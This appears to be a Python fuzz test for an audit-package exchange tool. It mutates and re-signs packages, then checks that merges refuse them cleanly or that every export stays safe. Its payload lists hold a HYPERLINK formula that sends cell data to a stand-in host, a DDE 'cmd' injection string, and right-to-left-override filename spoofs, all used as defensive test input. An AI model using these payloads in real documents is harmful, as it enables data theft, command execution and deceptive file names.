"""Fuzzing through merge and every export: hostile content, validly signed, pushed all the way.

tests/reliability/test_fuzz_packages.py stops at the reader and the hostile corpus
(tests/exchange/hostile_corpus.py) holds named attacks. Here hypothesis takes a genuine package
of an audit that uses every kind of question (with comments, an N/A reason, an action, a log
and an evidence file), mutates its audit.json as a forger holding a trusted key would — wrong
types, huge, empty and odd texts (lone surrogates, right-to-left overrides, C0 and C1 controls,
NUL, formula starts = + - @ with tab and carriage-return variants), extreme numbers, odd
timestamps, duplicate ids, cycles, dropped records — re-signs it with that key and merges it
into a head office. Then either:

- the package is refused or held, with a message (no "unexpected problem"), and the head
  office's database is what it was (its `iterdump`, apart from the receipt and the quarantine
  row) and passes `PRAGMA integrity_check`; or
- it is merged, and every export succeeds and reads back with outside tools: `export xlsx`,
  `export consolidated` and the fill-in workbook with openpyxl (no formula cell, no `<f>` in the
  sheet XML), the tidy CSV and Parquet tables with pandas, the PDF report with pypdf, and the
  audit packaged again by the head office and read back by a package reader. No evidence file
  name reaches a document with a raw control or bidirectional character.

Bounded for CI: 100 examples of the merge-only test, 20 of the one that also exports
everything (marked slow), derandomized so that a run is the same everywhere, and no shrinking
(an example takes up to a second or two). The long profile sets the number of examples of each
test and a seed:

    JALON_FUZZ_EXAMPLES=1000 JALON_FUZZ_SEED=1 .venv/bin/python -m pytest -q \
        tests/reliability/test_fuzz_merge_export.py --hypothesis-show-statistics

(the statistics list how many examples were merged, and each refusal's kind and message).
"""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import shutil
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, Phase, event, given, seed, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from pypdf import PdfReader

from app.cli.main import cli
from app.composition import Application
from app.exchange.package_reader import PackageReader
from app.exchange.signing_key import SigningKey
from app.frameworks.framework_loader import load_framework
from app.models.import_receipt import ReceiptStatus
from app.paths import AppPaths
from app.services.report_service import ReportService
from tests.exchange import hostile_corpus as corpus
from tests.fixtures.sample_workbook import SURVEY, _label, write_sample

PASSPHRASE = "correct horse battery staple"
EXAMPLES = int(os.environ.get("JALON_FUZZ_EXAMPLES", "0"))
SEED = os.environ.get("JALON_FUZZ_SEED")


def _profile(default: int):
    """Settings of one fuzz test: `default` examples, derandomized, unless told otherwise."""
    return settings(
        max_examples=EXAMPLES or default,
        deadline=None,
        derandomize=SEED is None,
        database=None,
        # No shrinking: an example takes up to a second or two (merge, six exports, read back),
        # and shrinking one ran for many minutes; the drawn edits are printed as they failed.
        phases=(Phase.explicit, Phase.reuse, Phase.generate),
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


def _seeded(test):
    return seed(int(SEED))(test) if SEED is not None else test


# The sample framework with a question of each remaining type, so every value check is met.
FUZZ_SURVEY = [
    *SURVEY[:-1],
    ["text", "q8", *_label("Mission statement"), "", "2.4", "", "", "", "", ""],
    ["decimal", "q9", *_label("Portfolio at risk (%)"), "", "2.5", "", "", "", "", ""],
    ["date", "q10", *_label("Last board review"), "", "2.6", "", "", "", "", ""],
    SURVEY[-1],
]

# Characters that act instead of being read, or that no document may hold.
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9b\x9f"
ODD = "\ud800\udfff\ufeff\u200b\u00ad\u2028\u2029\ufffe\uffff\U000e0041\U0001d52a\u0301é漢ع"
FORMULA_STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&B2,"x")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=2+2",
    "=cmd|' /C calc'!A0",
    "-",
    "=",
)

hostile_character = st.sampled_from(BIDI + CONTROLS + ODD + "\t\n\r")
hostile_text = st.one_of(
    st.text(hostile_character | st.characters(), max_size=30),
    st.sampled_from(FORMULAS),
    st.builds(
        lambda start, rest: start + rest,
        st.sampled_from(FORMULA_STARTS),
        st.text(hostile_character | st.characters(), max_size=10),
    ),
    st.builds(
        lambda unit, n: unit * n,
        st.sampled_from(["x", "é", "\U0001d52a", "\u202e", "a\n"]),
        st.sampled_from([32_766, 32_767, 32_768, 100_000, 100_001, 1_000_001]),
    ),
    st.just(""),
)
extreme_number = st.one_of(
    st.sampled_from(
        [
            0,
            -0.0,
            1e308,
            -1e308,
            5e-324,
            2**53 + 1,
            2**63,
            -(2**63) - 1,
            10**15,
            10**308,
            -(10**308),
            10**309,
            1.7976931348623157e308,
            0.1,
            100,
            101,
            -1,
        ]
    ),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
)
odd_timestamp = st.sampled_from(
    [
        "2025-06-01",
        "2025-06-01T12:00:00.1Z",
        "2025-06-01T12:00:00.123456Z",
        "2025-06-01T23:59:60Z",
        "2025-02-29T00:00:00Z",
        "2024-02-29T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "~~~~",
        "",
        "2025-06-01T12:00:00+01:00",
        "2025-06-01 12:00:00",
        "2025-06-01T12:00:00.1234567Z",
        "NOW",
    ]
)


@dataclass(frozen=True)
class Bench:
    items: list[tuple[str, bytes]]  # the genuine package's entries
    key: SigningKey  # the field site's key, trusted by the head office
    office: Path  # a head office's data folder, to be copied for each example
    evidence_name: str


def _answer_everything(session) -> None:
    for name, value in (
        ("q1", "yes"),
        ("q2", "partially"),
        ("q3", "yes"),
        ("q4", "no"),
        ("q5", "a b"),
        ("q6", 42),
        ("q7", "no"),
        ("q8", "Serve the poor"),
        ("q9", 3.5),
        ("q10", "2025-03-01"),
        ("q1", "no"),
    ):
        session.answer(name, value)
    session.comment("q2", "Targets are set every year")
    session.mark_not_applicable("q7", "No gender policy is required here")


@pytest.fixture(scope="module")
def bench(tmp_path_factory) -> Bench:
    root = tmp_path_factory.mktemp("fuzz-merge-export")
    mp = pytest.MonkeyPatch()
    mp.setenv("JALON_KEY_PASSPHRASE", PASSPHRASE)
    mp.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    framework = load_framework(write_sample(root / "fuzz.xlsx", survey=FUZZ_SURVEY)).framework
    field = Application(AppPaths(root / "field"), author="Awa")
    office = Application(AppPaths(root / "office"), author="Head office")
    try:
        audit = field.audits.create(framework, "Caisse de Test", "SN")
        session = field.audits.open(audit.id)
        _answer_everything(session)
        evidence = root / "minutes.txt"
        evidence.write_text("Board minutes, 2025")
        session.attach_evidence("q1", evidence)
        session.add_action("q2", "Publish the targets")
        field.packages.export(field.audits.get(audit.id), root / "field.jalon")
        info = field.keys.current()
        office.keys.signing_key()  # the head office packages audits again
        office.trust.trust(field.keys.public_key_text(info), "Awa", "Field")
        key = field.keys.signing_key()[1]
    finally:
        field.close()
        office.close()
    yield Bench(
        corpus.entries((root / "field.jalon").read_bytes()), key, root / "office", evidence.name
    )
    mp.undo()


# --- mutations of audit.json -----------------------------------------------------------------


def _leaves(node, path=()):
    """(path, value) of every leaf of a JSON document."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _leaves(value, (*path, index))
    else:
        yield path, node


def _set(document, path, value) -> None:
    for step in path[:-1]:
        document = document[step]
    document[path[-1]] = value


# Fields a person writes freely (as opposed to ids, hashes and states).
FREE_TEXTS = frozenset(
    (
        "institution",
        "country",
        "period_start",
        "period_end",
        "content_language",
        "created_by",
        "finalized_by",
        "comment",
        "na_reason",
        "department",
        "author",
        "site",
        "title",
        "owner",
        "target",
        "due_date",
        "kind",
        "filename",
        "added_by",
        "name",
        "legal_type",
        "network",
        "auditors",
        "detail",
    )
)
EVERY_EDIT = (
    "text",
    "text",
    "free text",
    "value",
    "value",
    "number",
    "timestamp",
    "type",
    "duplicate",
    "cycle",
    "drop",
    "reorder",
    "evidence",
    "graft",
)
# Edits that often leave a package a merge accepts, for the test that exports what it merged.
MOSTLY_ACCEPTED = (
    "free text",
    "free text",
    "free text",
    "free text",
    "text",
    "value",
    "number",
    "timestamp",
    "evidence",
    "evidence",
    "graft",
    "reorder",
)


def _mutate(document: dict, data, kinds: tuple[str, ...]) -> dict:
    """One hostile edit of the kind a forger holding a trusted key could sign."""
    document = copy.deepcopy(document)
    kind = data.draw(st.sampled_from(kinds), label="mutation")
    leaves = list(_leaves(document))
    revisions = document["revisions"]
    if kind == "text":
        texts = [path for path, value in leaves if isinstance(value, str)]
        _set(document, data.draw(st.sampled_from(texts)), data.draw(hostile_text))
    elif kind == "free text":
        document["audit"]["auditors"].append("Awa")
        document["events"].append(
            {
                "kind": "note",
                "detail": {"note": "Awa"},
                "author": "Awa",
                "created_at": document["audit"]["created_at"],
            }
        )
        texts = [
            path
            for path, value in _leaves(document)
            if isinstance(value, str) and FREE_TEXTS.intersection(path)
        ]
        _set(document, data.draw(st.sampled_from(texts)), data.draw(hostile_text))
    elif kind == "value":
        revision = data.draw(st.sampled_from(revisions))
        revision["value"] = data.draw(
            st.one_of(
                hostile_text,
                extreme_number,
                st.sampled_from(
                    [
                        "yes",
                        "a b c",
                        "a a",
                        "a  b",
                        " a",
                        "c",
                        "2025-02-29",
                        "2024-02-29",
                        "0001-01-01",
                        "9999-12-31",
                        True,
                        None,
                        [],
                        {},
                        {"invalid": "x"},
                        {"invalid": "\u202e=1"},
                        {"invalid": 3},
                    ]
                ),
            )
        )
    elif kind == "number":
        numbers = [path for path, value in leaves if isinstance(value, int | float)]
        numbers += [("revisions", n, "value") for n in range(len(revisions))]
        _set(document, data.draw(st.sampled_from(numbers)), data.draw(extreme_number))
    elif kind == "timestamp":
        stamps = [
            path
            for path, value in leaves
            if path[-1]
            in (
                "created_at",
                "updated_at",
                "added_at",
                "finalized_at",
                "due_date",
                "period_start",
                "period_end",
                "deleted_at",
            )
        ]
        _set(document, data.draw(st.sampled_from(stamps)), data.draw(odd_timestamp))
    elif kind == "type":
        path = data.draw(st.sampled_from([path for path, _ in leaves]))
        _set(
            document,
            path,
            data.draw(st.sampled_from([None, True, 0, 1.5, "", [], {}, ["x"], {"a": 1}])),
        )
    elif kind == "duplicate":
        records = data.draw(
            st.sampled_from(
                [name for name in ("revisions", "actions", "evidence", "events") if document[name]]
            )
        )
        record = copy.deepcopy(data.draw(st.sampled_from(document[records])))
        if data.draw(st.booleans()):  # the same id with other content
            for field in ("comment", "title", "filename", "kind"):
                if field in record:
                    record[field] = data.draw(hostile_text)
        document[records].append(record)
    elif kind == "cycle":
        first, second = data.draw(st.sampled_from(revisions)), data.draw(st.sampled_from(revisions))
        first[data.draw(st.sampled_from(["parent_id", "merge_parent_id"]))] = second["id"]
    elif kind == "drop":
        records = data.draw(
            st.sampled_from(
                [name for name in ("revisions", "actions", "evidence", "events") if document[name]]
            )
        )
        del document[records][data.draw(st.integers(0, len(document[records]) - 1))]
    elif kind == "reorder":
        document["revisions"] = data.draw(st.permutations(revisions))
    elif kind == "evidence":
        link = document["evidence"][0]
        link[data.draw(st.sampled_from(["filename", "indicator", "added_by", "id"]))] = data.draw(
            st.sampled_from(
                [
                    "\u202egpj.exe",
                    "minutes\u202etxt.exe",
                    "a\u2066b\u2069",
                    "=1+1.txt",
                    "nope",
                    "q99",
                    "CON",
                    "a" * 500,
                    "\u200bminutes.txt",
                    "x\x85y",
                    "q1",
                ]
            )
        )
    else:  # graft: a second head for an answer, as if two sites edited it
        revision = copy.deepcopy(data.draw(st.sampled_from(revisions)))
        revision["id"] = "grafted-" + revision["id"][:20]
        revision["value"] = data.draw(st.sampled_from(["yes", "no", 7, "", None]))
        document["revisions"].append(revision)
    return document


def _dumps(document: dict, ascii_escapes: bool) -> bytes:
    text = json.dumps(document, ensure_ascii=ascii_escapes)
    return text.encode("utf-8", "surrogatepass")  # a raw lone surrogate: invalid UTF-8


def _hostile_package(bench: Bench, data, kinds: tuple[str, ...] = EVERY_EDIT) -> bytes:
    document = json.loads(dict(bench.items)["audit.json"])
    for _ in range(data.draw(st.integers(1, 4), label="edits")):
        document = _mutate(document, data, kinds)
    content = _dumps(document, data.draw(st.booleans(), label="ascii escapes"))
    items = corpus.replace(bench.items, "audit.json", content)
    return corpus.build(corpus.resign(items, bench.key, lambda manifest: None))


# --- the invariants --------------------------------------------------------------------------

# What could mislead a reader of a document if written raw in a name (right-to-left overrides,
# embeddings, isolates; controls) — shown as escapes instead.
MISLEADING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# What a terminal would act on.
RAW_ON_TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def _dump(app: Application) -> list[str]:
    return [
        line
        for line in app.store.database.connection.iterdump()
        if not line.startswith(('INSERT INTO "import_log"', 'INSERT INTO "quarantine"'))
    ]


def _check_refusal(app: Application, receipt, before: list[str]) -> None:
    message = receipt.message
    assert message and "unexpected problem" not in message, message
    assert "{" not in receipt.reason or receipt.params, message
    assert receipt.problem and receipt.problem != "error", (receipt.problem, message)
    assert _dump(app) == before, message
    assert app.store.database.integrity_problems() == []


def _xlsx_texts(path: Path) -> list[str]:
    """Every text cell of the workbook, after checking that none is a formula."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", archive.read(name)), (path.name, name)
    texts = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _check_no_formula_field(table: Path) -> None:
    """A spreadsheet opening the CSV runs a field that starts with = + - @ tab or CR: each such
    field must be a number (a negative one), never a text."""
    csv.field_size_limit(2_000_000)  # a package text may hold 1,000,000 characters
    with table.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            for field in row:
                if field.startswith(("=", "+", "-", "@", "\t", "\r")):
                    float(field)  # raises on a text a spreadsheet would take for a formula


def _evidence_names(app: Application, audit_id: str) -> list[str]:
    return [link.filename for link in app.store.evidence.for_audit(audit_id)]


def _check_exports(app: Application, audit_id: str, folder: Path) -> None:
    reports = ReportService(app.store, app.audits)
    audit = app.audits.get(audit_id)
    written = [reports.write_xlsx(audit_id, folder / "audit.xlsx"), folder / "network.xlsx"]
    assert reports.write_consolidated(written[1]) == 1
    if not audit.is_finalized:
        written.append(reports.export_workbook(audit_id, folder / "fill.xlsx"))
    names = _evidence_names(app, audit_id)
    for path in written:
        for text in _xlsx_texts(path):
            for name in names:
                assert not (MISLEADING.search(name) and name in text), (path.name, text)
    reports.write_pdf(audit_id, folder / "report.pdf")
    pages = PdfReader(folder / "report.pdf").pages
    pdf_text = "".join(page.extract_text() for page in pages)
    assert len(pages) > 1 and "Targets?" in pdf_text  # a question's label, never mutated
    for name in names:
        assert not (MISLEADING.search(name) and name in pdf_text), name
    for kind, read in (("csv", pd.read_csv), ("parquet", pd.read_parquet)):
        result = app.tidy_exports.export(folder / kind, kind)
        assert result.audits == 1
        tables = sorted((folder / kind).glob(f"*.{kind}"))
        assert tables, kind
        for table in tables:
            read(table)
            if kind == "csv":
                _check_no_formula_field(table)
    package = folder / "again.jalon"
    app.packages.export(audit, package)
    again = PackageReader(trust=None).read(package.read_bytes())
    assert again.manifest.audit_id == audit_id


def _check_verify_output(office: Path, package: Path) -> None:
    """`jalon package verify`: a verdict printed without a raw control or bidi character."""
    result = CliRunner().invoke(cli, ["--data-dir", str(office), "package", "verify", str(package)])
    assert result.exit_code in (0, 1), result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
    assert "unexpected problem" not in result.output, result.output
    assert not RAW_ON_TERMINAL.search(result.output), ascii(result.output)


@contextmanager
def _office_given(bench: Bench, package: bytes) -> Iterator[tuple[Application, object, Path]]:
    """A fresh head office that verified `package` with `jalon package verify`, then merged it:
    (the office, the receipt, a scratch folder). A refusal or a hold is checked already."""
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        office, path = folder / "office", folder / "p.jalon"
        shutil.copytree(bench.office, office)
        path.write_bytes(package)
        _check_verify_output(office, path)
        app = Application(AppPaths(office), author="Head office")
        try:
            before = _dump(app)
            receipt = app.merges.merge_file(path)
            event(f"{receipt.status.value}: {receipt.problem} {receipt.reason[:70]}")
            if receipt.status in (ReceiptStatus.REJECTED, ReceiptStatus.QUARANTINED):
                _check_refusal(app, receipt, before)
            else:
                assert receipt.merged, receipt.message
                assert app.store.database.integrity_problems() == []
            yield app, receipt, folder
        finally:
            app.close()


@_seeded
@_profile(100)
@given(data=st.data())
def test_hostile_signed_content_is_refused_untouched_or_merged(bench, data):
    """The cheap half, many examples: the verdict of `package verify` and of the merge, and a
    database left as it was by a refusal."""
    with _office_given(bench, _hostile_package(bench, data)):
        pass


@pytest.mark.slow
@_seeded
@_profile(20)
@given(data=st.data())
def test_merged_hostile_content_exports_everywhere_and_reads_back(bench, data):
    """The costly half: every accepted example goes through six exports and their readers."""
    package = _hostile_package(bench, data, MOSTLY_ACCEPTED)
    with _office_given(bench, package) as (app, receipt, folder):
        if receipt.merged:
            (folder / "exports").mkdir()
            _check_exports(app, receipt.audit_id, folder / "exports")
